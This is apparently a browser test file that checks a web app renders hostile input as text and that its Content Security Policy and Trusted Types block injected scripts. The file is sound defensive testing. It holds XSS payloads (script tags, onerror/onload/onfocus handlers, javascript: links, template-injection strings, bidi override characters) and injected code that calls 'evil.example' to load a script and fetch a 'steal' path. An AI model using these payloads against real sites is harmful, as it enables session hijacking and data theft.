"""Text of others is shown as text, whatever is in it. If markup got into a page all the same, it would do nothing."""

from __future__ import annotations

import json
import urllib.request
from typing import TYPE_CHECKING

import pytest

from server.pages.pages import PATHS
from tests.browser.scene import PASSWORD, USERNAME

if TYPE_CHECKING:
    from tests.browser.conftest import Visit
    from tests.browser.hosted import Hosted
    from tests.in_process import LocalServer

PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
MARKUP = (
    f"<script>owned = 1</script><img src=x onerror='owned = 2'><img src='{PIXEL}' onload='owned = 3'>"
    "\"'><svg onload=owned=4><a href='javascript:owned=5' autofocus onfocus=owned=6>x</a>{{7*7}}${7*7}"
)
# Turns the line around, and hides what is in it.
BIDI = "\u202eevil\u2066\u200b"
LONG = "x" * 10_000
# What a page would have of the markup, if it took it for markup.
FOUND = """
const own = [...document.scripts].filter((script) => script.textContent || !script.src.startsWith(location.origin));
const odd = document.querySelectorAll(
  "main svg, img[src^='data:'], [onerror], [onload], [onfocus], a[href^='javascript:']");
return [window.owned ?? null, own.length, odd.length];
"""
# By the paths that need no parser, since Trusted Types refuse the others.
INJECT = """
const done = arguments[0];
const script = document.createElement("script");
const said = [];
document.addEventListener("securitypolicyviolation", ({effectiveDirective}) => said.push(effectiveDirective));
try { script.textContent = "owned = 1"; } catch (error) { said.push(error.name); }
try { document.getElementById("main").innerHTML = "<b>x</b>"; } catch (error) { said.push(error.name); }
try { document.body.setAttribute("onclick", "owned = 2"); } catch (error) { said.push(error.name); }
document.body.append(script);
document.body.click();
const elsewhere = document.createElement("script");
try { elsewhere.src = "https://evil.example/x.js"; } catch (error) { said.push(error.name); }
const image = document.createElement("img");
image.src = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
image.addEventListener("load", () => { window.owned = 4; });
const style = document.createElement("style");
style.textContent = "body { color: rgb(1, 2, 3); }";
document.body.append(image, style);
fetch("https://evil.example/steal").catch(() => {}).finally(() => setTimeout(() =>
  done([window.owned ?? null, getComputedStyle(document.body).color === "rgb(1, 2, 3)", said]), 50));
"""


def admin(hosted: LocalServer) -> str:
    token: str = hosted.log_in("admin", hosted.admin_password())["token"]
    return token


def log_in_with(hosted: LocalServer, agent: str, password: str = PASSWORD) -> None:
    body = json.dumps({"username": USERNAME, "password": password}).encode()
    headers = {"Content-Type": "application/json", "User-Agent": agent.encode().decode("latin-1")}
    request = urllib.request.Request(f"{hosted.address}/login", body, headers)  # noqa: S310 - our own http:// address
    with urllib.request.urlopen(request) as answer:  # noqa: S310
        assert answer.status == 200


def assert_harmless(page: Hosted) -> None:
    assert page.run(FOUND) == [None, 0, 0], page.path()
    assert page.too_wide() == [], page.path()


def at(visit: Visit, username: str, password: str, path: str, **screen: object) -> Hosted:
    page: Hosted = visit("/sign-in", **screen)
    page.sign_in(username, password)
    page.is_at("/account")
    page.visit(path)
    return page


def test_the_account_shows_names_addresses_and_programs_as_text(visit: Visit, hosted: LocalServer) -> None:
    token = hosted.log_in(USERNAME, PASSWORD)["token"]
    assert hosted.call("PATCH", "/me", {"name": (MARKUP + BIDI)[:200]}, token)[0] == 200
    log_in_with(hosted, MARKUP)
    log_in_with(hosted, LONG[:2000])
    page = at(visit, USERNAME, PASSWORD, "/account", width=360)
    page.until(lambda: page.run("return document.querySelectorAll('[data-session]').length") == 4, "all sessions")
    assert "<script>owned = 1</script>" in page.run("return document.getElementById('name').value")
    assert "<script>owned = 1</script>" in page.content("#sessions")
    assert_harmless(page)
    # Shown whole, where somebody wants it whole.
    for _ in range(page.run("return document.querySelectorAll('.foreign button').length")):
        page.click(".foreign button")
    assert_harmless(page)


def until_refused(page: Hosted) -> None:
    page.until(lambda: page.sees("main .error") or not page.sees("main form"), "it is refused")


def test_every_field_takes_markup_for_text(visit: Visit) -> None:
    """Whatever is typed comes back in an answer of the server, or in a message of the page."""
    for path in ("/sign-in", "/sign-up", "/reset-password#" + MARKUP, "/invitation#" + MARKUP):
        page = visit(path)
        fields = page.run(
            "return [...document.querySelectorAll('main form input')]"
            ".filter((at) => at.checkVisibility() && !at.readOnly).map((at) => at.name)"
        )
        if fields:
            form = "#" + page.run("return document.querySelector('main form').id")
            page.send(form, **dict.fromkeys(fields, MARKUP))
            until_refused(page)
        assert_harmless(page)


def test_the_console_shows_what_others_wrote_as_text(visit: Visit, hosted: LocalServer) -> None:
    token = admin(hosted)
    user = hosted.call("GET", f"/users?q={USERNAME}", token=token)[1]["users"][0]["id"]
    assert hosted.call("PATCH", f"/users/{user}", {"name": (BIDI + MARKUP)[:200]}, token)[0] == 200
    log_in_with(hosted, MARKUP)
    hosted.call("POST", "/login", {"username": MARKUP[:128], "password": "x"})
    page = at(visit, "admin", hosted.admin_password(), "/console", width=360)
    for view in ("users", f"users/{user}", f"users/{user}/edit", "audit", "invitations/new", "users/new"):
        page.visit(f"/console#{view}")
        assert_harmless(page)
    page.visit(f"/console#users/{user}")
    assert "<script>owned = 1</script>" in page.content()
    # The characters that turn a line around are seen, and turn nothing.
    assert "U+202E" in page.content("h1")
    assert "\u202e" not in page.content()
    page.visit(f"/console#users?q={MARKUP}")
    assert_harmless(page)


@pytest.mark.parametrize("path", PATHS)
def test_what_gets_into_a_page_all_the_same_does_nothing(visit: Visit, hosted: LocalServer, path: str) -> None:
    page = at(visit, "admin", hosted.admin_password(), path) if path in {"/account", "/console"} else visit(path)
    owned, styled, said = page.run_async(INJECT)
    assert (owned, styled) == (None, False)
    # Scripts and handlers are refused where they are written (Trusted Types), the rest where it is fetched.
    assert said.count("TypeError") == 4
    assert {"require-trusted-types-for", "img-src", "style-src-elem", "connect-src"} <= set(said), said
    assert not [one.url for one in page.browser.all_exchanges() if "evil.example" in one.url and one.status]
    page.browser.complaints()
